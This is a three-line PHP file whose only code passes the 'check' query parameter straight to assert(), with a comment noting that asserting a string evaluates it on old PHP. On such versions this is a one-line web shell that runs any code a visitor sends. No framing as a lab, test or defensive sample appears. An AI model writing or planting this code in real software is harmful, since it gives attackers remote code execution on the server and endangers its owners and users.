<?php
// assert of a string evaluates it on old PHP.
assert($_GET['check']);
